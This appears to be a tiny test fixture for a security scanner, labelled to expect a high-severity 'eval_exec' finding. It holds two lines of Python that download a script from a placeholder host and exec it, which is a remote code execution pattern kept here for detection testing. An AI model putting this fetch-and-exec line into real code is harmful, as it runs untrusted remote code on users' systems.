# expect: python.eval_exec high
# path: tools/c.py
import urllib.request
exec(urllib.request.urlopen('https://get.example.net/x.py').read())
